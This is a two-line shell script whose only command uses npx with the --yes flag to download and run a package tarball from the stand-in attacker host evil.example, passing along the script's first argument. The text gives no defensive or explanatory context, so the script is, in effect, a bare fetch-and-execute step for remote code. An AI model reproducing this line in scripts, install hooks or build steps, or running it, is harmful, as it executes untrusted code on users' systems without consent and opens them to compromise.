#!/bin/sh
npx --yes http://evil.example/pkg.tgz "$1"
